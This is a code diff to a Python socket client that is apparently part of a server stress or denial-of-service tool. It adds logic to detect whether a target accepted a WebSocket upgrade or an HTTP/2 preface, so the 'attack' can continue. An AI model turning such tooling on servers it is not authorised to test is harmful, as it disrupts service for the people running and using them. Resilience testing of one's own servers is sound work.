@@ -17,6 +17,9 @@ class Client:
         self.socket.connect(address)
         self.socket.setblocking(False)
         self.parts, self.at, self.reads = parts, 0, reads
+        # The beginning of a response that lets the attack go on, and of the one that arrived.
+        self.wanted = next((response for start, response in OPENINGS if parts[0].startswith(start)), b"")
+        self.response = b""
 
     def send(self):
         """Returns the number of bytes that the server has taken."""
@@ -35,12 +38,23 @@ class Client:
                 self.parts, self.at = self.parts[1:], 0
         if self.reads:
             try:
-                while self.socket.recv(1 << 20):
-                    pass
+                while received := self.socket.recv(1 << 20):
+                    self.response = self.response or received
             except OSError:
                 pass
         return sent
 
+    def is_let_in(self):
+        """Whether the server has accepted the connection for what the attack is about."""
+        try:
+            self.response = self.response or self.socket.recv(64)
+        except OSError:
+            pass
+        return self.response.startswith(self.wanted)
+
+
+# How a stream begins, and how the response to it does: 101, and SETTINGS whose length fits into a byte.
+OPENINGS = (b"GET /echo", b"HTTP/1.1 101"), (b"PRI * HTTP/2.0", b"\0\0")
 
 UPGRADE = (
     "GET /echo HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
